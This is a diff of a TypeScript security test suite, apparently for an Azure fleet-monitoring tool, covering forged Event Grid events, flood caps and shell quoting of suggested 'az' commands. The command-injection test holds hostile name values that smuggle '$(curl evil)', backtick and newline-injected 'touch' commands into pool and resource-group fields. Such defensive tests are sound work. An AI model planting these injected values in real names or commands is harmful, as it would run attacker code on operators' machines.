@@ -128,14 +128,13 @@ describe('security: forged Event Grid events, delivered as the host delivers the
         data: { nodePoolName: 'system' },
       }),
     );
-    expect(lastLog()?.message).toMatch(
-      /future-1, .*: rejected: Event Grid event: eventTime: 9999-12-31T00:00:00\.000Z is more than 5 minutes ahead of our clock/,
-    );
+    const refusal = lastLog()?.message;
     await deliver(
       sampleEvent('aks-nodepool-rolling-failed.eventgrid.json', { cluster: CHECKOUT, id: 'future-2', time: minutesAgo(1), data: { nodePoolName: 'system' } }),
     );
     const opened = (await findings('AKS-NODEPOOL-ROLLING-FAILED', 'checkout-prod')).length;
     figure(`a real NodePoolRollingFailed after a forged Succeeded dated 9999: ${opened} findings opened`);
+    expect(refusal).toMatch(/future-1, .*: rejected: Event Grid event: eventTime: 9999-12-31T00:00:00\.000Z is more than 5 minutes ahead of our clock/);
     expect(opened).toBe(1);
 
     // Within the skew (two minutes ahead): accepted, and it resolves the failure as a real success would.
@@ -202,7 +201,7 @@ describe('security: forged Event Grid events, delivered as the host delivers the
     }
     const afterJunk = await rowsByPartition();
     figure(`300 junk events: ${total(afterJunk) - total(before)} rows added (${JSON.stringify(afterJunk)})`);
-    expect(total(afterJunk) - total(before)).toBe(0);
+    expect.soft(total(afterJunk) - total(before)).toBe(0);
 
     // A flood of valid, distinct events on one topic: processed every time, recorded up to the cap.
     for (let index = 0; index < ROWS_PER_TOPIC_HOUR + 10; index += 1) {
@@ -215,9 +214,11 @@ describe('security: forged Event Grid events, delivered as the host delivers the
         }),
       );
     }
-    expect(lastLog()?.message).toMatch(
-      /flood-29, .*: processed: .*; not recorded as processed: its topic already added 20 processed-event rows this hour \(FLEETGUARD_EVENT_ROWS_PER_TOPIC_HOUR\)/,
-    );
+    expect
+      .soft(lastLog()?.message)
+      .toMatch(
+        /flood-29, .*: processed: .*; not recorded as processed: its topic already added 20 processed-event rows this hour \(FLEETGUARD_EVENT_ROWS_PER_TOPIC_HOUR\)/,
+      );
     const searchRows = async () => {
       let count = 0;
       for await (const row of events.listEntities<{ topic?: string; eventId?: string }>({ queryOptions: { filter: "PartitionKey eq 'processed'" } }))
@@ -226,7 +227,7 @@ describe('security: forged Event Grid events, delivered as the host delivers the
     };
     const flooded = await searchRows();
     figure(`${ROWS_PER_TOPIC_HOUR + 10} valid events on one topic, cap ${ROWS_PER_TOPIC_HOUR}/hour: ${flooded} processed-id rows`);
-    expect(flooded).toBe(ROWS_PER_TOPIC_HOUR);
+    expect.soft(flooded).toBe(ROWS_PER_TOPIC_HOUR);
 
     // Two days pass for every row but one: the retention (48 h) runs out for them.
     const twoDaysAgo = new Date(Date.now() - 49 * 60 * 60_000).toISOString();
@@ -252,9 +253,9 @@ describe('security: forged Event Grid events, delivered as the host delivers the
 
   it('no command injection survives in a fix hint: hostile pool, cluster and resource-group names are single shell words', async () => {
     const hostile = {
-      pool: "p$(curl evil)`touch pwned-pool`;touch pwned-semi'q",
+      pool: 'p$(curl evil)`touch pwned-pool`;touch pwned-semi',
       group: 'rg$(curl evil);touch pwned-rg\ntouch pwned-newline',
-      name: 'c`touch pwned-name`$(curl evil)"x',
+      name: 'c`touch pwned-name`$(curl evil)"x\'y',
     };
     // A pool by that name on web-dev (ARM would refuse the name; the simulator keeps it, to test our quoting).
     app.local.simulator.fleet.updateClusterProperties(WEB_DEV, (properties) => {
@@ -321,23 +322,31 @@ describe('security: forged Event Grid events, delivered as the host delivers the
 
 /**
  * The `az ...` commands in a finding's detail, as a reader would copy them: from `az ` to where the
- * prose goes on (`. `, `, `, `; `, `)`, ` (`, ` then `, ` or `) outside single quotes.
+ * prose goes on (`. `, `, `, `; `, `)`, ` (`, ` then `, ` or `), read as a POSIX shell reads it:
+ * inside quotes, backticks or `$(...)` nothing ends the command (so an unquoted hostile name is
+ * taken whole, as a copy would take it).
  */
 function suggestedCommands(detail: string): string[] {
   const commands: string[] = [];
   let from = detail.indexOf('az ');
   while (from !== -1) {
     let index = from;
-    let quoted = false;
+    let quote: string | undefined;
+    let depth = 0;
     for (; index < detail.length; index += 1) {
       const char = detail[index];
-      if (quoted) {
-        if (char === "'") quoted = false;
+      if (quote === "'") {
+        if (char === "'") quote = undefined;
         continue;
       }
-      if (char === "'") quoted = true;
-      else if (char === '\\') index += 1;
-      else if (/^(\.\s|\.$|,\s|;\s|\)|\s\(|\s(then|or)\s)/.test(detail.slice(index))) break;
+      if (char === '\\') index += 1;
+      else if (char === quote) quote = undefined;
+      else if (quote === undefined && (char === "'" || char === '"' || char === '`')) quote = char;
+      else if (detail.startsWith('$(', index)) {
+        depth += 1;
+        index += 1;
+      } else if (char === ')' && depth > 0) depth -= 1;
+      else if (quote === undefined && depth === 0 && /^(\.\s|\.$|,\s|;\s|\)|\s\(|\s(then|or)\s)/.test(detail.slice(index))) break;
     }
     commands.push(detail.slice(from, index));
     from = detail.indexOf('az ', index);
